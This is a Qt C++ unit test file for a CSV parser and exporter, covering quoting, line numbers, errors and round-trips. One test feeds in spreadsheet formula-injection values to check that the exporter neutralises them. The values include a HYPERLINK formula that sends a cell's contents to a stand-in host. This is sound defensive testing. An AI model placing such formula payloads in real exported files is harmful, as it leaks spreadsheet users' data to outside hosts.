#include "csv.h"

#include <QTest>

using namespace ioc;

class tst_Csv : public QObject
{
    Q_OBJECT
private slots:
    void parse_data();
    void parse();
    void errors_data();
    void errors();
    void roundTrip();
    void spreadsheetsNeverRunAField();
};

// A report's sheet or file name reaches exported cells: a spreadsheet must show it, not run it.
void tst_Csv::spreadsheetsNeverRunAField()
{
    const QByteArray doc = Csv::document(
        {{QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")"), QStringLiteral("-0.5"),
          QStringLiteral("+84 912 345"), QStringLiteral("@SUM(A1:A9)"), QStringLiteral("\t=1+1"),
          QStringLiteral("-"), QStringLiteral("Sheet1!C7"), QStringLiteral("12"), QString()}});
    const CsvResult back = Csv::parse(QString::fromUtf8(doc.mid(3)));
    QVERIFY2(back.error.isEmpty(), qPrintable(back.error));
    QCOMPARE(back.rows.first().fields,
             (QStringList{QStringLiteral("'=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")"),
                          QStringLiteral("-0.5"), QStringLiteral("'+84 912 345"),
                          QStringLiteral("'@SUM(A1:A9)"), QStringLiteral("'\t=1+1"),
                          QStringLiteral("'-"), QStringLiteral("Sheet1!C7"), QStringLiteral("12"),
                          QString()}));
    // what a script reads (joinRow) is left as it was
    QVERIFY(Csv::joinRow({QStringLiteral("=1+1")}).startsWith(QLatin1Char('=')));
}

void tst_Csv::parse_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QList<QStringList>>("rows");
    QTest::addColumn<QList<int>>("lines");
    QTest::newRow("plain") << "a,b\n1,2\n"
                           << QList<QStringList>{{"a", "b"}, {"1", "2"}} << QList<int>{1, 2};
    QTest::newRow("quoted comma") << "x,\"a, b\"\n"
                                  << QList<QStringList>{{"x", "a, b"}} << QList<int>{1};
    QTest::newRow("escaped quote") << "\"say \"\"hi\"\"\"\n"
                                   << QList<QStringList>{{"say \"hi\""}} << QList<int>{1};
    QTest::newRow("newline in field")
        << "\"a\nb\",c\nd,e" << QList<QStringList>{{"a\nb", "c"}, {"d", "e"}} << QList<int>{1, 3};
    QTest::newRow("crlf and bom") << QString(QChar(0xFEFF)) + "a,b\r\n1,2\r\n"
                                  << QList<QStringList>{{"a", "b"}, {"1", "2"}} << QList<int>{1, 2};
    QTest::newRow("empty fields") << ",,\n" << QList<QStringList>{{"", "", ""}} << QList<int>{1};
    QTest::newRow("blank lines skipped") << "a\n\nb\n"
                                         << QList<QStringList>{{"a"}, {"b"}} << QList<int>{1, 3};
    QTest::newRow("vietnamese") << "Tổng thu,\"56.363 tỷ đồng\"\n"
                                << QList<QStringList>{{"Tổng thu", "56.363 tỷ đồng"}}
                                << QList<int>{1};
}

void tst_Csv::parse()
{
    QFETCH(QString, text);
    QFETCH(QList<QStringList>, rows);
    QFETCH(QList<int>, lines);
    const CsvResult r = Csv::parse(text);
    QVERIFY2(r.error.isEmpty(), qPrintable(r.error));
    QCOMPARE(r.rows.size(), rows.size());
    for (int i = 0; i < rows.size(); ++i) {
        QCOMPARE(r.rows.at(i).fields, rows.at(i));
        QCOMPARE(r.rows.at(i).line, lines.at(i));
    }
}

void tst_Csv::errors_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<int>("line");
    QTest::newRow("unclosed quote") << "a,b\n1,\"open\n2,3\n" << 2;
    QTest::newRow("text after quote") << "a,\"b\"c\n" << 1;
    QTest::newRow("quote mid field") << "a,b\nx\"y,2\n" << 2;
}

void tst_Csv::errors()
{
    QFETCH(QString, text);
    QFETCH(int, line);
    const CsvResult r = Csv::parse(text);
    QVERIFY(!r.error.isEmpty());
    QCOMPARE(r.errorLine, line);
}

void tst_Csv::roundTrip()
{
    const QStringList fields = {"plain", "with, comma", "with \"quote\"", "two\nlines", ""};
    const CsvResult r = Csv::parse(Csv::joinRow(fields) + "\n");
    QVERIFY(r.error.isEmpty());
    QCOMPARE(r.rows.size(), 1);
    QCOMPARE(r.rows.first().fields, fields);
}

QTEST_GUILESS_MAIN(tst_Csv)
#include "tst_csv.moc"
